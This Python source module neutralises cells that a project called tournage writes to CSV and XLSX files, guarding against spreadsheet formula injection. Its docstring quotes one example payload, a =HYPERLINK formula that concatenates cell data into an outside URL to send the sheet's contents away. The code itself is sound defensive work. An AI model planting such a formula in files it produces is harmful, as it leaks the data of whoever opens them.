"""Cells of every CSV and XLSX that tournage writes: user text never becomes a formula.

A spreadsheet program evaluates a cell that starts with ``= + - @`` (and, after a tab or
a carriage return, what follows): a breakdown tag ``=HYPERLINK("http://…?"&A1)`` would
send the sheet's data away when the file is opened. Such text gets a leading apostrophe
(OWASP's advice for CSV injection), in CSV and XLSX alike, so the cell shows it as text;
plain numbers written as text ("-12,5") stay as they are. Formulas tournage writes itself
are marked ``Formula`` and kept.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d[\d\s\u00a0\u202f]*([.,]\d+)?%?$")
# Characters an XLSX cell cannot hold (openpyxl refuses them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b-\x0c\x0e-\x1f]")


class Formula(str):
    """A formula tournage writes; any other text starting with "=" stays plain text."""


def neutralise(value: Any) -> Any:
    """``value`` as a safe cell: text that a spreadsheet would evaluate gets a quote."""
    if (
        isinstance(value, str)
        and not isinstance(value, Formula)
        and value.startswith(FORMULA_STARTS)
        and not _NUMBER.match(value)
    ):
        return "'" + value
    return value


def restored(value: Any) -> Any:
    """The text a neutralised cell stands for, when tournage reads back its own file."""
    if isinstance(value, str) and value.startswith("'") and neutralise(value[1:]) == value:
        return value[1:]
    return value


def xlsx_cell(value: Any) -> Any:
    if isinstance(value, str) and not isinstance(value, Formula):
        return neutralise(_ILLEGAL_XML.sub("", value))
    return value


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet; only ``Formula`` cells are formulas."""
    sheet.append([xlsx_cell(value) for value in values])


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
